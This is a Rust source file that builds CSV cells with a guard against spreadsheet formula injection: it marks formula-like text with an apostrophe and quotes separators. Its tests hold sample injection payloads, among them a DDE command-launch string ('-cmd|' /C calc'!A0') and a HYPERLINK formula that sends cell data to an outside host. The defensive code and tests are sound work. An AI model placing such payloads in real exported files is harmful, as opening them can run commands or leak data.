//! One cell of a row. Every CSV of Headroom is made of cells, so that none can be written without the guard.

use filestats::Figure;
use std::fmt::Write;

/// Characters with which a spreadsheet lets a formula begin, those of full width included (OWASP, "CSV Injection").
const FORMULA: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A cell as it is written (RFC 4180).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Cell(String);

impl Cell {
    /// A number with three decimals.
    pub fn decimal(value: f64) -> Cell {
        Cell(format!("{value:.3}"))
    }
}

/// Cells in their order with commas between them and a line break behind them.
pub fn row(cells: impl IntoIterator<Item = Cell>) -> String {
    let mut line = String::new();
    for (at, Cell(text)) in cells.into_iter().enumerate() {
        let comma = if at > 0 { "," } else { "" };
        let _ = write!(line, "{comma}{text}");
    }
    line + "\n"
}

/// Text that a spreadsheet would take for a formula is marked as text; some spreadsheets skip white space before it. A
/// number stays one.
impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        let is_formula = text.trim_start().starts_with(FORMULA) || text.starts_with(['\t', '\r', '\n']);
        let text = if is_formula && !is_number(text) { format!("'{text}") } else { text.to_owned() };
        let is_quoted = text.contains([',', '"', '\n', '\r', '\t', ';']);
        Cell(if is_quoted { format!("\"{}\"", text.replace('"', "\"\"")) } else { text })
    }
}

/// Digits, a sign, a point and an exponent; neither "-inf" nor "-1+2".
fn is_number(text: &str) -> bool {
    let is_digit = |symbol: char| symbol.is_ascii_digit() || "+-.eE".contains(symbol);
    text.chars().all(is_digit) && text.parse::<f64>().is_ok()
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::from(text.as_str())
    }
}

/// A number that a program counted, which needs no guard.
macro_rules! from_number {
    ($($number:ty),*) => {$(
        impl From<$number> for Cell {
            fn from(number: $number) -> Cell {
                Cell(number.to_string())
            }
        }
    )*};
}

from_number!(u32, u64, usize, i64);

/// The shortest text that reads back as the same number; empty where it is none.
impl From<f64> for Cell {
    fn from(value: f64) -> Cell {
        Cell(if value.is_finite() { format!("{value:?}") } else { String::new() })
    }
}

/// An absent value is empty.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Cell {
        value.map_or(Cell::default(), Into::into)
    }
}

/// A figure that is not known is empty.
impl From<Figure<u64>> for Cell {
    fn from(figure: Figure<u64>) -> Cell {
        figure.known().into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(text: &str) -> String {
        row([text.into()]).trim_end_matches('\n').to_owned()
    }

    #[test]
    fn no_text_begins_a_formula_and_numbers_stay_numbers() {
        for formula in [
            "=1+2",
            "+1+2",
            "-1+2",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "-inf",
            "\u{ff1d}1",
            "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
            "-cmd|' /C calc'!A0",
            "+",
            "-",
            "\tx",
        ] {
            let cell = written(formula);
            let content = cell.trim_matches('"');
            assert!(content.starts_with('\''), "{formula:?} is written as {cell:?}");
        }
        for plain in ["-1.5", "+2e-3", "-7", "shop.db", "a=b", "a-b", "'"] {
            assert_eq!(written(plain), plain);
        }
        assert_eq!(
            row([Cell::from(-1.5), (-7_i64).into(), None::<u64>.into(), Cell::decimal(-0.5)]),
            "-1.5,-7,,-0.500\n"
        );
    }

    #[test]
    fn separators_and_quotes_are_quoted() {
        assert_eq!(written("a,b"), "\"a,b\"");
        assert_eq!(written("a\"b"), "\"a\"\"b\"");
        assert_eq!(written("a;=1"), "\"a;=1\"", "a separator elsewhere");
        assert_eq!(written("a\n=1"), "\"a\n=1\"");
    }
}
